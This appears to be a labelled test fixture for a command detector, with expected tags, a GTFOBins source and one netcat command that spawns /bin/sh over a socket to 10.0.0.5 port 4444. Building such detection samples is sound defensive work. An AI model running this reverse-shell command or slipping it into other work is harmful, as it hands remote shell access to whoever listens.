# expect: shell-spawn,raw-socket
# source: GTFOBins nc
# technique: nc -e /bin/sh runs a shell over the socket
nc -e /bin/sh 10.0.0.5 4444
